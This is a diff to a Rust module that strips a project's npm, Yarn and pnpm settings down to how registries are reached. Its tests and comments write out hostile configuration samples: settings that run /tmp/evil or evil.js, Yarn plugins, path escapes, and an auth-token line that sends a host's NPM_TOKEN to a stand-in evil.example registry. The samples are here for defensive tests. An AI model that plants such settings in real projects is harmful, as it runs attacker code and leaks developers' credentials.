@@ -1,7 +1,12 @@
 //! What a manager is given of the project's settings, and of the host's environment: how registries are reached, and no more. A
-//! setting can name a program (`git`, `yarnPath`, `plugins`), and a variable in it any secret of the host (`${AWS_SECRET_ACCESS_KEY}`).
+//! setting can name a program (`git`, `yarnPath`, `plugins`), and a variable in it a secret of the host, next to a registry of the project's own
+//! choice (`//evil.example/:_authToken=${NPM_TOKEN}`). Registries that want to know who asks are for the settings of whoever runs the host.
 
 use std::ffi::{OsStr, OsString};
+
+use serde_json::Value;
+
+use crate::sources::{self, Outside};
 
 /// Settings in `.npmrc`, besides those of a scope (`@mine:registry`) and of a registry (`//npm.example/:_authToken`).
 const NPMRC: [&str; 6] =
@@ -10,13 +15,12 @@ const NPMRC: [&str; 6] =
 /// Settings of a registry that name no program.
 const OF_REGISTRY: [&str; 6] = [":_authToken", ":_auth", ":username", ":_password", ":email", ":always-auth"];
 
-/// Settings in `.yarnrc.yml`, with all that is indented below them.
-const YARNRC: [&str; 11] = [
+/// Settings in `.yarnrc.yml`.
+const YARNRC: [&str; 10] = [
     "catalog",
     "catalogs",
     "compressionLevel",
     "defaultProtocol",
-    "npmAlwaysAuth",
     "npmAuthIdent",
     "npmAuthToken",
     "npmRegistries",
@@ -26,7 +30,7 @@ const YARNRC: [&str; 11] = [
 ];
 
 /// Variables that managers are given, in either case.
-const VARIABLES: [&str; 21] = [
+const VARIABLES: [&str; 20] = [
     "ALL_PROXY",
     "COREPACK_HOME",
     "COREPACK_NPM_REGISTRY",
@@ -47,7 +51,6 @@ const VARIABLES: [&str; 21] = [
     "XDG_CACHE_HOME",
     "XDG_CONFIG_HOME",
     "XDG_DATA_HOME",
-    "YARN_NPM_AUTH_TOKEN",
 ];
 
 /// npm's own settings in variables: how it reaches a registry.
@@ -81,29 +84,36 @@ pub fn is_kept(name: &OsStr) -> bool {
 }
 
 /// The lines of a `.npmrc` that say how registries are reached.
-pub fn npmrc(text: &str) -> String {
+pub fn npmrc(text: &str) -> Result<String, Outside> {
     let is_kept = |line: &&str| {
         let name = line.split('=').next().unwrap_or_default().trim();
         let of_registry = || name.starts_with("//") && OF_REGISTRY.iter().any(|setting| name.ends_with(setting));
-        NPMRC.contains(&name) || (name.starts_with('@') && name.ends_with(":registry")) || of_registry()
+        let is_known = || NPMRC.contains(&name) || (name.starts_with('@') && name.ends_with(":registry")) || of_registry();
+        !line.contains('$') && is_known()
     };
-    lines(text.lines().filter(is_kept))
+    Ok(text.lines().filter(is_kept).flat_map(|line| [line, "\n"]).collect())
 }
 
 /// The same of a `.yarnrc.yml`.
-pub fn yarnrc(text: &str) -> String {
-    let mut is_kept = false;
-    lines(text.lines().filter(|line| {
-        if !line.starts_with([' ', '\t', '-', '#']) && !line.trim().is_empty() {
-            let name = line.split(':').next().unwrap_or_default().trim().trim_matches(['"', '\'']);
-            is_kept = YARNRC.contains(&name);
-        }
-        is_kept
-    }))
+pub fn yarnrc(text: &str) -> Result<String, Outside> {
+    let mut kept = sources::kept(text, &YARNRC).ok_or_else(|| no_yaml(".yarnrc.yml"))?;
+    kept.retain(|_, value| !value.to_string().contains('$'));
+    ["catalog", "catalogs", "packageExtensions"]
+        .iter()
+        .filter_map(|name| kept.get(*name))
+        .try_for_each(|value| sources::specifiers(value, 0))?;
+    Ok(Value::Object(kept).to_string())
 }
 
-fn lines<'t>(kept: impl Iterator<Item = &'t str>) -> String {
-    kept.flat_map(|line| [line, "\n"]).collect()
+/// Of pnpm's settings those that say what is installed.
+pub fn pnpm_workspace(text: &str) -> Result<String, Outside> {
+    let mut settings = sources::yaml(text).ok_or_else(|| no_yaml("pnpm-workspace.yaml"))?;
+    sources::pnpm_settings(&mut settings)?;
+    Ok(settings.to_string())
+}
+
+fn no_yaml(file: &str) -> Outside {
+    Outside { what: file.to_owned(), reason: "it is no YAML, or has anchors, merges or a key twice" }
 }
 
 /// Values that no message may show.
@@ -122,13 +132,17 @@ mod tests {
 
     #[test]
     fn settings_that_name_programs_are_left_out() {
-        let npmrc_text = "registry=https://r.example/\ngit=/tmp/evil\n@me:registry = https://m.example\n//m.example/:_authToken=${NPM_TOKEN}\n\
-                          //m.example/:tokenHelper=/tmp/evil\nscript-shell=/tmp/evil\nnode-options=--require ./evil.js\n";
-        let kept = "registry=https://r.example/\n@me:registry = https://m.example\n//m.example/:_authToken=${NPM_TOKEN}\n";
-        assert_eq!(npmrc(npmrc_text), kept);
-        let yarnrc_text =
-            "yarnPath: .yarn/evil.cjs\nnpmScopes:\n  me:\n    npmAuthToken: abcd\nplugins:\n  - ./evil.cjs\nnpmAuthToken: x\n";
-        assert_eq!(yarnrc(yarnrc_text), "npmScopes:\n  me:\n    npmAuthToken: abcd\nnpmAuthToken: x\n");
+        let text = "registry=https://r.example/\ngit=/tmp/evil\n@me:registry = https://m.example\n//m.example/:_authToken=abcd\n\
+                    //m.example/:tokenHelper=/tmp/evil\nscript-shell=/tmp/evil\nnode-options=--require ./evil.js\n//evil.example/:_authToken=${NPM_TOKEN}\n";
+        let kept = "registry=https://r.example/\n@me:registry = https://m.example\n//m.example/:_authToken=abcd\n";
+        assert_eq!(npmrc(text).ok().as_deref(), Some(kept));
+        let text =
+            "yarnPath: .yarn/evil.cjs\nnpmScopes:\n  me:\n    npmAuthToken: abcd\nplugins:\n  - ./evil.cjs\nnpmAuthToken: ${NPM_TOKEN}\n";
+        assert_eq!(yarnrc(text).ok().as_deref(), Some(r#"{"npmScopes":{"me":{"npmAuthToken":"abcd"}}}"#));
+        assert!(yarnrc("a: &x 1\nb: *x\n").is_err());
+        let text = "packages: [packages/*]\nmodulesDir: ../victim\nstoreDir: ../evil\noverrides: { a: npm:b@1 }\n";
+        assert_eq!(pnpm_workspace(text).ok().as_deref(), Some(r#"{"overrides":{"a":"npm:b@1"},"packages":["packages/*"]}"#));
+        assert!(pnpm_workspace("packages: [../x]\n").is_err() && pnpm_workspace("catalog: { a: u/r }\n").is_err());
     }
 
     #[test]
